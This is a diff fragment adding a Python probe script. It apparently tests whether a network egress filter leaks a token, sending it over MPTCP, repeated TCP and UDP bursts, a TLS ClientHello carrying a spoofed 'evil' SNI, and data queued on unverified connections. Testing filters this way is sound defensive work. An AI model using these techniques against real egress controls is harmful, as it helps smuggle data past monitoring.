+    v, err, ms = attempt(go)
+    return {"back": hexes(v or b""), "error": err, "ms": ms}
+
+
+def mptcp(a):
+    def go():
+        s = socket.socket(family(a["to"]), socket.SOCK_STREAM, 262)
+        s.settimeout(2)
+        s.connect((a["to"], a["port"]))
+        s.sendall(a["token"].encode())
+        return s.recv(100)
+    v, err, ms = attempt(go)
+    return {"back": hexes(v or b""), "error": err, "ms": ms}
+
+
+def stream(a):
+    """Sends the token to a["to"] by new connections and datagrams until killed; READY at the start."""
+    print("READY", flush=True)
+    end = time.monotonic() + a.get("seconds", 30)
+    n, last = 0, 0.0
+    u = socket.socket(family(a["to"]), socket.SOCK_DGRAM)
+    u.setblocking(False)
+    while time.monotonic() < end:
+        def go():
+            s = tcp(a["to"], a["port"], 0.3)
+            s.sendall(make_hello(a) if "sni" in a else a["token"].encode())
+            s.close()
+        attempt(go)
+        attempt(lambda: u.sendto(a["token"].encode(), (a["to"], 9999)))
+        n += 1
+        if time.monotonic() - last > 0.2:
+            last = time.monotonic()
+            print("TRIED %d" % n, flush=True)
+    return {"n": n}
+
+
+def queued(a):
+    """Leaves data in a socket buffer of a connection that is not verified, and goes."""
+    s, err, _ = attempt(lambda: tcp(a["to"], a["port"], 1.0))
+    if s is None:
+        return {"connect": err}
+    data = wire.client_hello(a["sni"])[:100] if a.get("half") else b""
+    bad = wire.client_hello(a["evil"], a["token"].encode())
+    s.setblocking(False)
+    attempt(lambda: s.send(data or bad[:120]))
+    attempt(lambda: s.send((a["token"].encode() + b"\n") * 2000))
+    print(json.dumps({"connect": "ok"}), flush=True)
+    os._exit(0)
+
+
+def joined_socket(a):
+    """Does a flow that was verified go on? Sends lines until told to stop by EOF of stdin."""
+    s, err, _ = attempt(lambda: tcp(a["to"], a["port"]))
+    if s is None:
+        return {"connect": err}
+    s.sendall(make_hello(a) if "sni" in a else b"start\n")
+    attempt(lambda: s.recv(4096))
+    print("READY", flush=True)
+    for line in sys.stdin:
+        _, err, _ = attempt(lambda: s.sendall(line.encode()))
+        print("SENT %s %s" % (line.strip(), err), flush=True)
+    return {"connect": "ok"}
+
+
+def several(a):
+    """a["list"]: JSON list of [name, {args}]; one process, one report."""
+    out = []
+    for name, args in json.loads(a["list"]):
+        out.append(globals()[name](dict(args)))
+    return {"results": out}
+
+
+def main(argv):
+    if argv[0] == "--cgroup":
+        with open(argv[1] + "/cgroup.procs", "w") as f:
+            f.write(str(os.getpid()))
+        argv = argv[2:]
+    a = {}
+    for arg in argv[1:]:
+        k, v = arg.split("=", 1)
+        a[k] = int(v) if v.isdigit() and k not in ("token", "hex", "then_hex", "sni_hex") else v
+        if k in ("wait", "seconds", "timeout"):
+            a[k] = float(v)
+    print(json.dumps(globals()[argv[0]](a)), flush=True)
+    if argv[0] == "crafted":
+        os._exit(0)
+
+
+if __name__ == "__main__":
+    main(sys.argv[1:])
